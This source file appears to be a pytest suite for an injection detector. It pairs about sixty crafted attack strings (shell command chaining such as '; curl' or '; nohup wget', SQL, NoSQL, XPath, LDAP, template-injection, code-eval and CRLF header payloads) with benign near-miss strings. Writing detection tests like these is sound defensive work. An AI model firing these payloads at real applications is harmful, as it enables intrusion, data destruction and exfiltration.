"""Attacks that a grammar composes: what ends a value, what is told then, and in which letters."""

import pytest

from garrison.payload.judge import judge

ATTACKS = (
    # behind a value of one word: programs that lead others, their folders, blocks, substitutions
    ("command", "oar.pdf|exec touch /srv/b"),
    ("command", "12&&env ss -tlnp"),
    ("command", "12 ;nohup nmap 10.0.0.1 &"),
    ("command", "ada@a.example & /usr/bin/last -n 5"),
    ("command", "10.0.0.1\nnohup id"),
    ("command", "a.example<(chmod 777 /srv/b)"),
    ("command", '"\nif true;then logger oar;fi'),
    ("command", "oar;trap 'tac /srv/b' EXIT"),
    ("command", "oar&for /f %i in ('hostname') do ping %i.a.example"),
    ("command", "oar &set x=who&call %x%ami"),
    ("command", "oar|Get-ADUser -Filter *"),
    ("command", "oar;gci C:\\"),
    ("command", "Ada Oar sail|wmic process list"),
    ("command", "Oar Road 10.0.0.1 || nohup ln -s / /tmp/r &"),
    ("command", "Ada Oar; curl -s https://a.example"),
    ("command", "Please send the red oar to me. Ada; nohup wget http://a.example/b &"),
    ("command", "oar;ls"),
    ("command", "oar;redis-cli flushall"),
    # tests of XPath, whatever they call
    ("xpath", "') or ../pin or '"),
    ("xpath", "' or collection()//pin or '"),
    ("xpath", "1 or boolean(//boat)"),
    ("nosql", "' or saxon:evaluate('1') or '"),
    ("xpath", "1 or ../pin or '"),
    ("xpath", "//boat/pin/text()"),
    ("xpath", "7|//boats"),
    ("ldap", "oar)(OID.0.9.2342.19200300.100.1.1=*"),
    # stores: a string, a call, a block, a query is ended, and another goes on
    ("nosql", "oar').fold().next();//"),
    ("nosql", 'oar") { uid } } { q(func: has(pin)) { expand(_all_) } }'),
    ("nosql", 'oar" | where 1==1 //'),
    ("nosql", "oar 0 60 4\r\nabcd\r\ndelete sail\r\n"),
    ("nosql", "1 && this.pin!='x"),
    ("nosql", "oar' OR labels(n)[0]='Sail' //"),
    ("nosql", "oar') YIELD x RETURN x//"),
    ("nosql", "oar\\r\\nSET a b\\r\\n"),
    # clauses behind what is ended, and comparisons that are reckoned with
    ("sql", 'oar" offset 1 rows fetch next 5 rows only--'),
    ("sql", "oar') for xml path('')--"),
    ("sql", "';vacuum into '/srv/b'#"),
    ("sql", "88-((1)=(1))"),
    ("sql", "5519 not in (0)"),
    # paths, however their folders are written
    ("path", "/././/var/log/syslog"),
    ("path", "/./etc/hosts"),
    # templates
    ("template", "{{3**3}}"),
    ("template", "}}{{dict[request.args.a]}}{{"),
    ("template", '<@("x"?interpret)/>'),
    ("template", "#set($a=7*7)$a"),
    ("template", "{$x->y()}"),
    ("template", "[% PERL %]print 1[% END %]"),
    ("template", "{{lookup this 'constructor'}}"),
    ("template", "#{session.setAttribute('a','b')}"),
    ("template", "%{@beanFactory}"),
    # what is made of a text and then called
    ("runtime", "[].filter.constructor('return 1')()"),
    ("runtime", 'Function("return process")().env'),
    ("runtime", "loadstring('x')()"),
    ("runtime", "<?PHP\nini_set('display_errors',1);\n?>"),
    ("runtime", "AddType application/x-httpd-php .gif"),
    ("markup", "'-fetch('//a.example')-'"),
    # lines of protocols, with whatever ends a line
    ("header", "ada@a.example\nQUIT"),
    ("header", 'oar"\\nA01 LOGOUT'),
    ("header", "oar\\r\\nSet-Cookie: a=b"),
    ("header", "oar\u560d\u560aGET /pins HTTP/1.1"),
    ("header", "=?utf-8?q?x=0ABcc:ada@a.example?="),
    ("header", "oar\nGET /pins HTTP/1.1\nHost: a"),
)
BENIGN = (
    "oar; sudo is needed for it",
    "oar; exec summary; env. report",
    "oar; time last week",
    "oar; get-well cards",
    "name;date",
    "/srv/./oars",
    "5 is null and void",
    "Ada's or Oar's: http://a.example//",
    "Use pip; pip install -r oars.txt",
    "Ada Oar; cat and dog",
    "the cat; find it at home",
    "Ada\nrm the old one",
    "oars=$(npm root --global)",
    "f>(x)",
    "<oar a=\"b\" c='d'>/x:body/oar[@a != \"c:val\" and @b != 'x']</oar>",
    "boat.sails('oar').map(x => x)",
    "the (oar) or ../sail",
    "it's 5 or ../oar",
    "3*(2+1)",
    "It's for the win -- me",
    '5" for 3 boats',
    "#foreach($i in $oars)$i.name#end",
    "{$oar}",
    "Dear {{ada}}}} and {{bob}}",
    "this.constructor(oar)",
    "function (x) { return 'oar' }",
    "<?xml version='1.0'?><oar a='f(x)'/>",
    "boats\nA4 list of paper",
    "Ada\nQuit smoking",
    "oar:\n  host: sail",
    "a\\nb: c",
    "oars | where we keep them",
    "//boat/pin",
)


@pytest.mark.parametrize(("kind", "text"), ATTACKS)
def test_what_is_composed_is_found(kind: str, text: str) -> None:
    assert kind in {found.kind for found in judge([text])}


@pytest.mark.parametrize("text", BENIGN)
def test_what_comes_nearest_to_it_passes(text: str) -> None:
    assert judge([text]) == ()
